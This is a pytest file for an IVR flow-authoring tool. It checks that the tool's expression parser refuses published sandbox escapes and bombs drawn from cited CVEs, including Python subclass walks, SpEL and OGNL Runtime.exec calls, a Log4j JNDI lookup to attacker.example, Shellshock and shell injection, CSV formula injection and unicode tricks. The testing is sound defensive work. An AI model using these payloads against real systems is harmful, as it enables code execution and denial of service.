"""Published ways out of expression languages, and bombs, against the conditions of flows, prompts and plural rules.

What is no expression is refused with its place. A name that means something elsewhere is a variable like any other, in
Python and in the ECMAScript that VoiceXML platforms run.
"""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest
import quickjs

from ivr_author.call.caller import Press, ScriptCaller
from ivr_author.call.line import Line
from ivr_author.call.world import Answer, CallSetup, ScriptWorld
from ivr_author.catalog.model import parse_plural_forms
from ivr_author.core.placeholders import parse_placeholders
from ivr_author.core.plurals import choose_form
from ivr_author.expression.ecmascript import RUNTIME, to_ecmascript
from ivr_author.expression.evaluate import evaluate
from ivr_author.expression.model import Call, ExpressionFault, Literal, Name
from ivr_author.expression.parse import parse_expression
from ivr_author.ir.play import play
from ivr_author.targets import twiml, voicexml
from tests.attack.watch import check, watched
from tests.tally import tally
from tests.targets.voicexml.workspace import MAIN, SETTINGS, compile_workspace, write_workspace

# Where each was published.
PYTHON = "N. Batchelder: Eval really is dangerous, 2012"
TAV = "tav: A challenge to break Python security, 2009"
SIMPLEEVAL = "CVE-2026-32640, GHSA-44vg-5wv2-h2hg (simpleeval)"
ASTEVAL = "CVE-2025-24359, GHSA-3wwr-3g9f-9gc7 (asteval)"
ASTEVAL_RAISE = "CVE-2026-55244, GHSA-89v8-rhwq-hf77 (asteval)"
EXPR_EVAL = "CVE-2025-12735 (expr-eval)"
ANGULAR_2020 = "CVE-2020-5219, GHSA-hxhm-96pp-2m43 (angular-expressions)"
ANGULAR_2021 = "CVE-2021-21277, GHSA-j6px-jwvv-vpwq (angular-expressions)"
ANGULAR_2024 = "CVE-2024-54152, GHSA-5462-4vcx-jh7j (angular-expressions)"
ANGULARJS = "G. Heyes: XSS without HTML, client-side template injection with AngularJS, 2016"
SPEL = "CVE-2022-22963 (Spring Cloud Function, SpEL)"
OGNL = "CVE-2017-5638 (Struts, OGNL)"
CONFLUENCE = "CVE-2022-26134 (Confluence, OGNL)"
JEXL = "CVE-2020-10199 (Nexus Repository, EL)"
MVEL = "CVE-2014-3120 (Elasticsearch, MVEL)"
GROOVY = "CVE-2015-1427 (Elasticsearch, Groovy)"
LOG4J = "CVE-2021-44228 (Log4j lookups)"
TEXT4J = "CVE-2022-42889 (Commons Text lookups)"
JSONPATH = "CVE-2024-21534 (jsonpath-plus)"
SHELL = "CVE-2014-6271 and CWE-78: shell metacharacters"
FORMULA = "OWASP: CSV Injection"
FORMAT = "A. Ronacher: Be careful with Python's new-style string format, 2016"
SPEC = "OWASP ASVS 5.0, 1.3.10 and 15.2.2: format strings, functions that take more than their share"
GETTEXT = "python/cpython#62323 and #80180: gettext.c2py evaluates what a catalog says"
UNICODE = "CVE-2021-42574 (Trojan Source)"

REFUSED: list[tuple[str, str]] = [
    (PYTHON, "__import__('os').system('id')"),
    (PYTHON, "().__class__.__bases__[0].__subclasses__()"),
    (PYTHON, "(lambda: 1)()"),
    (PYTHON, "[c for c in ().__class__.__base__.__subclasses__()]"),
    (TAV, "open('/etc/passwd')"),
    (TAV, "eval('1')"),
    (TAV, "getattr(name, 'x')"),
    (TAV, "(y := 1)"),
    (SIMPLEEVAL, "caller.os.system('id')"),
    (SIMPLEEVAL, "min(name=open)"),
    (ASTEVAL, "f'{name.__class__}'"),
    (ASTEVAL, "'{0.__class__}'.format(name)"),
    (ASTEVAL_RAISE, "raise SystemExit"),
    (EXPR_EVAL, "__proto__.x = 1"),
    (EXPR_EVAL, "(f(x) = 1)(2)"),
    (ANGULAR_2020, "constructor.constructor('return process')()"),
    (ANGULAR_2021, "''.constructor.constructor('alert(1)')()"),
    (ANGULAR_2024, "__proto__.constructor"),
    (ANGULARJS, "'a'.constructor.prototype.charAt=[].join"),
    (ANGULARJS, "{}.x.constructor"),
    (ANGULARJS, "toString().constructor"),
    (SPEL, "T(java.lang.Runtime).getRuntime().exec('id')"),
    (SPEL, "new java.lang.ProcessBuilder('id').start()"),
    (OGNL, "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
    (CONFLUENCE, "${@java.lang.Runtime@getRuntime().exec('id')}"),
    (JEXL, "$\\A{''.getClass().forName('java.lang.Runtime')}"),
    (MVEL, "import java.io.*; new File('/etc/passwd')"),
    (GROOVY, "java.lang.Math.class.forName('java.lang.Runtime')"),
    (LOG4J, "${jndi:ldap://attacker.example/a}"),
    (TEXT4J, "${script:javascript:java.lang.Runtime.getRuntime()}"),
    (JSONPATH, "$..[?(p='this.process')]"),
    (SHELL, "() { :;}; echo owned"),
    (SHELL, "`id`"),
    (SHELL, "$(id)"),
    (SHELL, "a; b"),
    (SHELL, "a | b"),
    (FORMULA, "=cmd|'/c calc'!A0"),
    (SPEC, "'%999999999d' % 1"),
    (SPEC, "9 ** 9 ** 9"),
    (SPEC, "1 << 999999999"),
    (SPEC, "1e999"),
    (SPEC, "9999999999999999"),
    (SPEC, "(" * 240 + "1" + ")" * 240),
    (SPEC, "not " * 120 + "paid"),
    (SPEC, "-" * 490 + "1"),
    (SPEC, "min(" * 60 + "1"),
    (SPEC, "1 + " * 200 + "1"),
    (SPEC, "(" * 200_000),
    (UNICODE, "paid \u202e and not paid"),
    (UNICODE, "\uff43onstructor == 1"),
    (ANGULARJS, "\\u0063onstructor == 1"),
]

# Words of other languages. Here they are names, and a name without a value is none.
NAMES = (
    *("constructor", "prototype", "arguments", "this", "window", "document", "application", "session", "process"),
    *("undefined", "nan", "infinity", "function", "eval", "self", "config", "request", "os", "ivr", "require"),
    *("hasownproperty", "valueof", "tostring", "new", "var", "with", "yield", "class", "import", "exec", "lambda"),
)

# Taken, as the arithmetic of doubles or as no value; never as a text that grows.
SMALL: list[tuple[str, str]] = [
    ("pallets/jinja#2149", "'a' * 999999999"),
    ("pallets/jinja#2149", "length('a' * 999999999)"),
    (SPEC, " * ".join(["999999999999999"] * 25)),
    (SPEC, "1 / 0"),
    (SPEC, "round(999999999999999 * 999999999999999)"),
    (SPEC, "'" + "a" * 490 + "' < 'b'"),
]

# Where a prompt has a placeholder.
PLACEHOLDERS = (
    *(
        "{name.__class__}",
        "{name.__init__.__globals__[secret]}",
        "{0}",
        "{0.__class__}",
        "{name!r}",
        "{name:>999999999}",
    ),
    *("{name[0]}", "{name.a.b}", "{__proto__}", "{ name }", "{{name}", "{}", "{{{name}}"),
    *("{name", "name}", "{NAME}", "{na\u200bme}", "{na\nme}", "{$name}", "${jndi:ldap://x}"),
)

PLURALS = (
    *("__import__('os').system('id')", "n**n**n", "n*999999999", "n<<999999999", "n()", "(n)(n)", "1 if n else 2"),
    *("n" * 400, "(" * 200 + "n" + ")" * 200, "n?" * 130 + "n" + ":n" * 130, "n and n", "n%0", "n%(n-n)", "n/0", "n=1"),
    *("lambda n: n", "n if n else n", "[n]", "0x10", "n.real", "n%(n>5?0:1)"),
)


@pytest.fixture(scope="module")
def engine() -> quickjs.Context:
    context = quickjs.Context()
    context.set_time_limit(1.0)
    context.set_memory_limit(16_000_000)
    context.eval(RUNTIME)
    # As the documents of VoiceXML have it.
    context.eval("var application = {call: {values: {}}};")
    return context


def name_of(text: str) -> str:
    return text[:40].encode("unicode_escape").decode()


@pytest.mark.parametrize(("source", "text"), REFUSED, ids=[name_of(text) for _, text in REFUSED])
def test_a_published_escape_is_refused_with_its_place(source: str, text: str) -> None:
    with watched() as seen:
        found = parse_expression(text)
    assert isinstance(found, ExpressionFault), source
    assert found.message
    assert 0 <= found.offset <= len(text)
    check(seen)


@pytest.mark.parametrize("name", NAMES)
def test_a_word_of_another_language_is_a_name_without_a_value(engine: quickjs.Context, name: str) -> None:
    found = parse_expression(name)
    assert isinstance(found, Name)
    asked = Call("is_set", (found,))
    assert (evaluate(found, {}), evaluate(asked, {})) == (None, False)
    for expression, expected in ((found, None), (asked, False)):
        script = to_ecmascript(expression, lambda one: f"application.call.values['{one}']")
        assert engine.eval(script) == expected


@pytest.mark.parametrize(("source", "text"), SMALL, ids=[name_of(text) for _, text in SMALL])
def test_what_is_taken_stays_small(engine: quickjs.Context, source: str, text: str) -> None:
    with watched() as seen:
        found = parse_expression(text)
        assert not isinstance(found, ExpressionFault), source
        value = evaluate(found, {})
    assert value is None or isinstance(value, bool | float)
    assert engine.eval(to_ecmascript(found, str)) == value
    check(seen)


@pytest.mark.parametrize(
    "text",
    [
        "');process.exit();('",
        "</script><script>",
        "]]>",
        "\u2028alert(1)\u2029",
        "\\u0027+x+\\u0027",
        "${1}",
        "<!--",
        "\\",
    ],
)
def test_a_text_stays_in_its_quotes(engine: quickjs.Context, text: str) -> None:
    script = to_ecmascript(Literal(text), str)
    assert not set("<>&\u2028\u2029") & set(script)
    assert engine.eval(script) == text


@pytest.mark.parametrize("text", PLACEHOLDERS, ids=name_of)
def test_a_placeholder_is_a_name_and_nothing_else(text: str) -> None:
    with watched() as seen:
        pieces, faults = parse_placeholders(text)
    assert faults
    assert {type(piece) for piece in pieces} <= {str, type(parse_placeholders("{name}")[0][0])}
    assert not any("__" in getattr(piece, "name", "") for piece in pieces)
    check(seen)


@pytest.mark.parametrize("text", PLURALS, ids=name_of)
def test_a_plural_rule_is_c_and_nothing_else(text: str) -> None:
    with watched() as seen:
        rule = parse_plural_forms(f"nplurals=3; plural={text};")
        assert rule is None or 0 <= choose_form(rule.expression, 5.0, 3) < 3
    assert rule is None or "?" in text
    check(seen)


def test_a_plural_rule_with_too_many_forms() -> None:
    assert parse_plural_forms("nplurals=" + "9" * 5_000 + "; plural=n;") is None


@pytest.mark.parametrize("target", [twiml.TARGET, voicexml.TARGET], ids=["twiml", "voicexml"])
@pytest.mark.parametrize(
    "names", [("undefined", "arguments", "prototype"), ("this", "window", "valueof"), ("ivr", "application", "call")]
)
def test_a_flow_whose_variables_are_called_so_plays_like_any_other(
    tmp_path: Path, target: object, names: tuple[str, str, str]
) -> None:
    main, settings = MAIN, SETTINGS
    for usual, odd in zip(("case_number", "balance", "open_bills"), names, strict=True):
        main = main.replace(f"{usual}:", f"{odd}:").replace(f"{{{usual}}}", f"{{{odd}}}")
        main = main.replace(f": {usual}", f": {odd}")
        settings = settings.replace(f"{usual}: money", f"{odd}: money").replace(f"{usual}: number", f"{odd}: number")
    program = compile_workspace(write_workspace(tmp_path, main, settings))
    setup = CallSetup("main", datetime(2026, 12, 21, 15, 0, tzinfo=UTC))
    steps = [Press("1"), Press("12345678#"), Press("1")]
    # What a back end answers besides what was agreed goes nowhere.
    answer = Answer("ok", {names[1]: "120.55", names[2]: "1", "__proto__": "x", "constructor_": "y", "tostring": "z"})
    lines = [Line(ScriptCaller(steps), ScriptWorld(lookups={"billing.balance": [answer]})) for _ in range(2)]
    play(program, setup, lines[0])
    artifact = target.emit(program)  # type: ignore[attr-defined]
    target.play(artifact, setup, lines[1])  # type: ignore[attr-defined]
    assert lines[1].transcript() == lines[0].transcript()
    assert lines[0].transcript().outcome == "queue billing"
    assert any("owe $120.55" in str(event) for event in lines[0].transcript().events)


def test_enough_are_tried() -> None:
    assert len({text for _, text in REFUSED}) == len(REFUSED) >= 40
    count = len(REFUSED) + len(NAMES) + len(SMALL) + len(PLACEHOLDERS) + len(PLURALS)
    tally("escapes and bombs against expressions", count, refused=len(REFUSED), escaped=0)
